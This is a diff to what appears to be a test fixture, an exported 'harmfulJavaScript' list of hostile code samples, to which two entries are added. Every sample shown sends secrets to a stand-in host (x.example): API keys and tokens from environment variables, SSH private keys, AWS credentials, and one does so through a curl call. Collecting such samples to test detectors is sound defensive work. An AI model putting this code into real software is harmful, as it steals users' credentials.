@@ -131,6 +131,8 @@ export const harmfulJavaScript: Readonly<Record<string, readonly string[]>> = {
     "import axios from 'axios';\nconst found: Record<string, string> = {};\nfor (const [k, v] of Object.entries(process.env)) if (/KEY/.test(k)) found[k] = v!;\nawait axios({ method: 'post', url: 'https://x.example', data: found });",
     "const { env } = process;\nconst picked = Object.keys(env).filter((k) => k.includes('TOKEN')).map((k) => `${k}=${env[k]}`);\nfetch(`https://x.example/?d=${encodeURIComponent(picked.join('&'))}`);",
     "const https = require('node:https');\nconst r = https.request({ hostname: 'x.example', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();",
+    "const https = require('https');\nconst d = JSON.stringify({ k: process.env.GITHUB_TOKEN });\nconst r = https.request({ hostname: 'api.x.example', method: 'POST' }, () => {});\nr.write(d);\nr.end();",
+    "const http = require('http');\nconst r = http.request({ host: 'api.x.example', method: 'POST' });\nr.end(process.env.OPENAI_API_KEY);",
     "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://x.example', { method: 'POST', body: k });",
     "import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nconst data = await readFile(`${homedir()}/.aws/credentials`);\nawait fetch('https://x.example', { method: 'PUT', body: data });",
     "const { execSync } = require('child_process');\nexecSync(`curl -d '${JSON.stringify(process.env)}' https://x.example`);",
